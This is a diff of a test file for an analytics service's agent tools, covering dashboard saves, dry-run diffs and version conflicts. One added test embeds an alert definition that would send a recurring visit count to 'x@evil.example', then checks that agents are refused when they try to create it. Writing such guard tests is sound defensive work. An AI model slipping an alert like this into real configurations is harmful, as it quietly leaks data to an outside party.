@@ -238,19 +238,22 @@ describe('dashboards', () => {
       /^created visits, project, version 1\nConsole: https:\/\/analytics\.example\.com\/projects\//,
     );
     const changed = YAML.replace('title: Visits', 'title: Visitors');
-    const compared = await agent.call('save_dashboard', {
-      key: 'visits',
-      source_yaml: changed,
-      base_version: 1,
-      dry_run: true,
-    });
+    const change = { key: 'visits', source_yaml: changed, base_version: 1 };
+    const compared = await agent.call('save_dashboard', { ...change, dry_run: true });
     expect(compared.text).toMatch(/- title: Visits\n\+ title: Visitors/);
-    const saved = await agent.call('save_dashboard', { key: 'visits', source_yaml: changed, base_version: 1 });
+    const saved = await agent.call('save_dashboard', change);
     expect(saved.text).toMatch(/^saved visits as version 2\n/);
     expect(await agent.call('save_dashboard', { key: 'visits', source_yaml: YAML, base_version: 1 })).toMatchObject({
       isError: true,
       text: expect.stringContaining('version 2 by now'),
     });
+
+    const alert =
+      "alerts: [{ id: out, query: visit | count, when: value > 0, every: 1m, to: ['mailto:x@evil.example'] }]\n";
+    for (const key of ['visits', 'other']) {
+      const { isError, text } = await agent.call('save_dashboard', { key, source_yaml: YAML + alert });
+      expect([isError, text]).toEqual([true, expect.stringContaining('agents do not create alerts')]);
+    }
 
     expect((await agent.call('dashboards')).text).toMatch(/\| visits \| Visitors \| project +\| 2 /);
     expect(fencedIn((await agent.call('dashboards', { key: 'visits' })).text)).toBe(changed);
